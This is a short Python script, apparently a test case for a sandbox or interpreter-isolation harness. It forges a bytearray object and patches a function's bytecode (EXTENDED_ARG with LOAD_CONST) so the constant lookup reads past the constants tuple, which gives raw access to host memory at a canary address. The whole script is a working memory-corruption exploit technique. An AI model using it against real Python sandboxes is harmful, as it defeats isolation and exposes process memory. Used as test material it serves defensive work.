# what: reaches for the host's memory with an object that bytecode takes from a place outside its constants
import dis
import struct

# A bytearray made by hand whose content is the host's memory.
size = bytearray.__basicsize__
fields = [1 << 20, id(bytearray), CANARY_SIZE, CANARY_SIZE + 1, CANARY_ADDRESS, CANARY_ADDRESS, 0]
fake = struct.pack("7Q", *fields) + bytes(64)


def template():
    return 1


def constant_at(distance):
    code = bytes([dis.opmap["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([dis.opmap["EXTENDED_ARG"], distance >> shift & 255])
    return code + bytes([dis.opmap["LOAD_CONST"], distance & 255, dis.opmap["RETURN_VALUE"], 0])


head = bytes.__basicsize__ - 1  # where the content of bytes begins
consts = template.__code__.co_consts
kept = [struct.pack("Q", id(fake) + head) + bytes(1000)]
for _ in range(10_000):
    if id(kept[-1]) > id(consts):
        break
    kept.append(bytes(bytearray(kept[0])))
first = id(consts) + tuple.__basicsize__  # where the items of a tuple begin
template.__code__ = template.__code__.replace(co_code=constant_at((id(kept[-1]) + head - first) // 8))
bytes(template())
